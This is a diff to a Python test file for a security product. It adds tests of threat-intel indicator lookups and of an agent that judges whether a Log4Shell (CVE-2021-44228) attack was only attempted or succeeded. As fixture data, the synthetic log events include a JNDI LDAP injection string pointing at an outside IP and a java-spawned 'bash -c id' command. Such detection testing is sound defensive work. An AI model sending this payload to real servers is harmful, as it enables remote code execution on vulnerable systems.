@@ -12,6 +12,8 @@ import orjson
 import pytest
 import pytest_asyncio
 
+from services.agents.roster.threat_intel.agent import ThreatIntel
+from services.agents.roster.vulnerability_analyst.agent import VulnerabilityAnalyst
 from shared.clock import new_id
 from shared.contracts.common import Observable, PageQuery
 from shared.contracts.constants import Endpoint
@@ -30,10 +32,12 @@ from shared.contracts.intel import (
     IntelReport,
     VulnerabilityQuery,
 )
+from shared.contracts.intel_methods import ExposureRequest, IndicatorRequest
 from shared.errors import AuroraError
 from tests import feeds
 from tests.siem import Siem, siem
 from tests.stack import Servers, data_folder
+from tests.unit.agents.agent_kit import work
 
 NOW = datetime(2026, 6, 1, tzinfo=UTC)
 
@@ -279,3 +283,59 @@ async def test_a_thousand_observables_are_looked_up_at_once_and_no_more(running:
     assert found.indicators >= 1
     with pytest.raises(AuroraError, match="AURORA-4220"):
         await lookup(running, *(("domain", "a.com") for _ in range(1001)))
+
+
+async def test_the_specialist_says_what_is_known_of_indicators_and_cites_it(running: Siem) -> None:
+    name = own()
+    body = feeds.bundle(
+        feeds.indicator(f"[domain-name:value = '{name}.com']", confidence=90),
+        feeds.indicator(f"[domain-name:value = 'old-{name}.com']", valid_until="2026-05-01T00:00:00Z"),
+    )
+    await bring(running, body, name)
+    asked = [Observable("domain", value) for value in (f"{name}.com", f"old-{name}.com", f"none-{name}.com")]
+    async with running.client() as client:
+        at_work = work(siem=client)
+        report = await ThreatIntel().lookup_indicators(IndicatorRequest(observables=asked, at=NOW), at_work)
+    assert [item.standing for item in report.indicators] == ["malicious", "noted", "unknown"]
+    assert report.indicators[0].names == ["Duskrat", "Quiet Heron"]
+    assert report.indicators[0].weight >= 0.8
+    assert report.indicators[0].citation in {citation.id for citation in report.citations}
+    assert report.stored > 0
+
+
+async def test_the_specialist_tells_a_try_from_one_that_worked(running: Siem) -> None:
+    name = own()
+    tried, worked = f"web-{name}", f"app-{name}"
+    shared = {"event.category": ["web"], "http.response.status_code": 200}
+    events = [
+        {
+            "host.name": host,
+            "url.original": "/?x=${jndi:ldap://45.33.32.156/a}",
+            "message": f"GET jndi ldap {host}",
+            **shared,
+        }
+        for host in (tried, worked)
+    ]
+    events.append(
+        {
+            "host.name": worked,
+            "process.parent.name": "java",
+            "process.name": "bash",
+            "process.command_line": "bash -c id",
+            "event.category": ["process"],
+            "message": "execve",
+        }
+    )
+    stamped = [{"@timestamp": "2026-05-30T10:00:00Z", **event} for event in events]
+    status, _, _ = await running.ingest(stamped, query={"source": name})
+    assert status == 202
+    await bring(running, feeds.kev("CVE-2021-44228"), name)
+    outcomes = {}
+    async with running.client() as client:
+        for host in (tried, worked):
+            asked = ExposureRequest(cves=["CVE-2021-44228"], host=host, until=NOW)
+            (found,) = (await VulnerabilityAnalyst().assess_exposure(asked, work(siem=client))).exposures
+            assert found.known_exploited
+            assert found.citations
+            outcomes[host] = found.outcome
+    assert outcomes == {tried: "attempted", worked: "succeeded"}
